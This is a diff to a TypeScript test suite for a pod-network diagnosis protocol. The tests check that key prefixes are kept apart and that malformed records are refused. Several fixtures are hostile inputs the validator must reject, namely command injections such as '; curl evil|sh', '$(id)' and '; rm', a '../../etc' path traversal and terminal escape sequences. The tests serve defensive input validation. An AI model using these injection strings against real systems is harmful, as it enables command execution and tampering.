@@ -1,6 +1,7 @@
 import { describe, expect, test } from "bun:test";
+import { escapeControlsDeep } from "./diagnosis-checker.ts";
 import type { DiagnosisRequest, NodeFacts, NodeObservation } from "./diagnosis-protocol.ts";
-import { diagnosisKey } from "./diagnosis-protocol.ts";
+import { DIAGNOSIS_ANSWERS_PREFIX, DIAGNOSIS_REQUESTS_PREFIX, diagnosisKey } from "./diagnosis-protocol.ts";
 import {
   InvalidDiagnosisRecordError,
   parseArmedReport,
@@ -77,9 +78,20 @@ describe("parseDiagnosisKey", () => {
   test("refuses other keys", () => {
     expect(parseDiagnosisKey("/podnet/nodes/node1")).toBeUndefined();
     expect(parseDiagnosisKey(diagnosisKey("BAD-ID", "request"))).toBeUndefined();
-    expect(parseDiagnosisKey(diagnosisKey(ID, "facts"))).toBeUndefined();
+    expect(parseDiagnosisKey(`/podnet/diagnosis/answers/${ID}/facts`)).toBeUndefined();
     expect(parseDiagnosisKey(diagnosisKey(ID, "facts", "Node_1"))).toBeUndefined();
-    expect(parseDiagnosisKey(diagnosisKey(ID, "other", "node1"))).toBeUndefined();
+    expect(parseDiagnosisKey(`/podnet/diagnosis/answers/${ID}/other/node1`)).toBeUndefined();
+    // Signals live under requests/, answers under answers/, never the other way round.
+    expect(parseDiagnosisKey(`/podnet/diagnosis/answers/${ID}/probe`)).toBeUndefined();
+    expect(parseDiagnosisKey(`/podnet/diagnosis/requests/${ID}/facts/node1`)).toBeUndefined();
+    expect(parseDiagnosisKey(`/podnet/diagnosis/${ID}/request`)).toBeUndefined();
+  });
+  test("requests and answers sit under separate prefixes (agents watch only requests)", () => {
+    for (const part of ["request", "go", "probe"] as const)
+      expect(diagnosisKey(ID, part).startsWith(DIAGNOSIS_REQUESTS_PREFIX)).toBe(true);
+    for (const part of ["facts", "armed", "observed"] as const)
+      expect(diagnosisKey(ID, part, "node1").startsWith(DIAGNOSIS_ANSWERS_PREFIX)).toBe(true);
+    expect(diagnosisKey(ID, "facts", "node1")).toBe(`/podnet/diagnosis/answers/${ID}/facts/node1`);
   });
 });
 
@@ -211,8 +223,8 @@ describe("answers", () => {
         {
           proto: "tcp",
           timeoutSeconds: 1,
-          original: { src: "a", dst: "b" },
-          reply: { src: "b", dst: "a" },
+          original: { src: "10.0.0.1", dst: "10.0.0.2" },
+          reply: { src: "10.0.0.2", dst: "10.0.0.1" },
           flags: [],
         },
       ],
@@ -228,5 +240,101 @@ describe("answers", () => {
         JSON.stringify({ ...obs, counters: [{ chain: "c", name: "n", packets: "1" }] }),
       ),
     ).toThrow(/counters\[0\].packets must be a number/);
+  });
+
+  test("facts whose fields readers rely on are malformed are refused, naming the field (no reader crash)", () => {
+    const key = diagnosisKey(ID, "facts", "node1");
+    const pod = {
+      network: "podnet",
+      namespace: "default",
+      name: "node1-a",
+      containerId: "c0ffee",
+      ifname: "eth0",
+      netns: "/run/netns/cni-1234",
+      ips: ["10.244.1.2"],
+      recordedAt: "2026-12-06T10:00:00.000Z",
+    };
+    expect(parseNodeFacts(key, JSON.stringify({ ...facts, pods: [pod] })).pods).toHaveLength(1);
+    const bad: [Partial<NodeFacts> | Record<string, unknown>, RegExp][] = [
+      [
+        { neighbours: [{ dev: "eth0", address: "192.0.2.1", state: "REACHABLE" }] },
+        /neighbours\[0\]\.state must be an array/,
+      ],
+      [
+        { fdb: [{ dev: "podnet-vx", mac: "02:00:00:00:00:01", flags: "self" }] },
+        /fdb\[0\]\.flags must be an array/,
+      ],
+      [{ routes: [{ dst: "default", type: "unicast" }] }, /routes\[0\]\.onlink must be true or false/],
+      [
+        { routes: [{ dst: "default", dev: 7, onlink: false, type: "unicast" }] },
+        /routes\[0\]\.dev must be a string/,
+      ],
+      [{ interfaces: [{ ...facts.interfaces[0], mac: 5 }] }, /interfaces\[0\]\.mac must be a string/],
+      [{ interfaces: [{ ...facts.interfaces[0], up: "yes" }] }, /interfaces\[0\]\.up must be true or false/],
+      [{ agent: { ...facts.agent, uplink: "eth0;reboot" } }, /agent\.uplink must be an interface name/],
+      [
+        { pods: [{ ...pod, netns: "/run/netns/x; curl evil|sh" }] },
+        /pods\[0\]\.netns must be an absolute path/,
+      ],
+      [{ pods: [{ ...pod, netns: "/run/netns/../../etc" }] }, /pods\[0\]\.netns must not contain "\.\."/],
+      [{ pods: [{ ...pod, hostVeth: "veth0 -x" }] }, /pods\[0\]\.hostVeth must be an interface name/],
+      [{ pods: [{ ...pod, containerId: "c1$(id)" }] }, /pods\[0\]\.containerId must be a container id/],
+      [{ pods: [{ ...pod, namespace: "\u001b]0;pwned\u0007" }] }, /pods\[0\]\.namespace/],
+      [{ errors: ["nft: \u001b[2Jcleared"] }, /errors\[0\] contains the control character \\x1b/],
+      [
+        { interfaces: [{ ...facts.interfaces[0], alias: "a\u009bb" }] },
+        /interfaces\[0\]\.alias contains the control character \\x9b/,
+      ],
+    ];
+    for (const [patch, reason] of bad) {
+      const text = JSON.stringify({ ...facts, ...patch });
+      expect(() => parseNodeFacts(key, text)).toThrow(InvalidDiagnosisRecordError);
+      expect(() => parseNodeFacts(key, text)).toThrow(reason);
+    }
+  });
+
+  test("armed, probe and observation strings with control characters or bad names are refused", () => {
+    expect(() =>
+      parseArmedReport(
+        diagnosisKey(ID, "armed", "node2"),
+        JSON.stringify({ node: "node2", table: "inet x; rm" }),
+      ),
+    ).toThrow(/table must be inet podnet-trace-ID/);
+    expect(() =>
+      parseProbeResult(
+        diagnosisKey(ID, "probe"),
+        JSON.stringify({ outcome: "error", ms: 1, error: "\u001b[2J" }),
+      ),
+    ).toThrow(/error contains the control character/);
+    const obs = {
+      node: "node1",
+      events: [
+        {
+          atMs: 1,
+          traceId: "x",
+          family: "inet",
+          table: "t",
+          chain: "c",
+          type: "packet",
+          iif: "eth0;x",
+          raw: "r",
+        },
+      ],
+      conntrack: [],
+      counters: [],
+      sysctls: {},
+      errors: [],
+    };
+    expect(() => parseNodeObservation(diagnosisKey(ID, "observed", "node1"), JSON.stringify(obs))).toThrow(
+      /events\[0\]\.iif must be an interface name/,
+    );
+  });
+
+  test("what an agent writes after escaping controls reads back", () => {
+    const escaped = escapeControlsDeep({ ...facts, errors: ["stderr:\nline two \u001b[0m"] });
+    expect(escaped.errors).toEqual(["stderr:\\x0aline two \\x1b[0m"]);
+    expect(parseNodeFacts(diagnosisKey(ID, "facts", "node1"), JSON.stringify(escaped)).errors).toEqual(
+      escaped.errors,
+    );
   });
 });
